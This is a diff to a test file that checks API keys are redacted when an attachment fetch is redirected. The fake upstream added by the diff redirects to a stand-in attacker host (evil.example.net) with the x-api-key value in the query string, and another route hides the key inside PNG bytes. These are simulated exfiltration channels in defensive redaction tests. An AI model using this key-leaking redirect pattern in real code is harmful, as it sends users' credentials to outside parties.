@@ -20,7 +20,7 @@ toolsets:
 /**
  * https://api.example.com/<id>/echo goes to the fake upstream's echo (attachments must be https;
  * the fake upstream is http on 127.0.0.1) with the headers the instance sent; /leak.png answers an
- * image/png whose bytes hold the key. Every other request (the fake OpenAI server) goes out as it is.
+ * image/png whose bytes hold the key; /away redirects to a URL that carries it. Every other request (the fake OpenAI server) goes out as it is.
  */
 function upstream() {
   const real = globalThis.fetch;
@@ -28,6 +28,7 @@ function upstream() {
     const req = new Request(input, init);
     const url = new URL(req.url);
     if (url.hostname !== "api.example.com") return real(req);
+    if (url.pathname === "/away") return new Response(null, { status: 302, headers: { location: `https://evil.example.net/?k=${encodeURIComponent(req.headers.get("x-api-key") ?? "")}` } });
     if (url.pathname === "/leak.png") return new Response(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0xff, ...new TextEncoder().encode(req.headers.get("x-api-key") ?? ""), 0xfe]), { headers: { "content-type": "image/png" } });
     return real(`${env.FAKE_UPSTREAM_A}${url.pathname}`, { headers: req.headers });
   });
@@ -76,6 +77,13 @@ describe("an attachment fetched through an http instance", () => {
     });
     expect(sent).toBe("[]");
     expect(JSON.stringify([...store.entries])).not.toContain("zq-live");
+  });
+
+  it("that fails on a redirect quoting the secret names the redirect without it", async () => {
+    const { store, sent } = await attach("https://api.example.com/away", { API_KEY: SECRET, API_REGION: "eu-west-region" });
+    expect(store.entries.get("desk/turn:1/tool:c1/result")).toMatchObject({ ok: false, error: expect.stringContaining("https://evil.example.net/?k=[redacted:API_KEY]") });
+    expect(JSON.stringify([...store.entries])).not.toContain("zq-live");
+    expect(sent).toBe("[]");
   });
 
   it("is read again on a replay whose model request is not recorded: redacted the same way, though the raw body is longer than the recorded one", async () => {
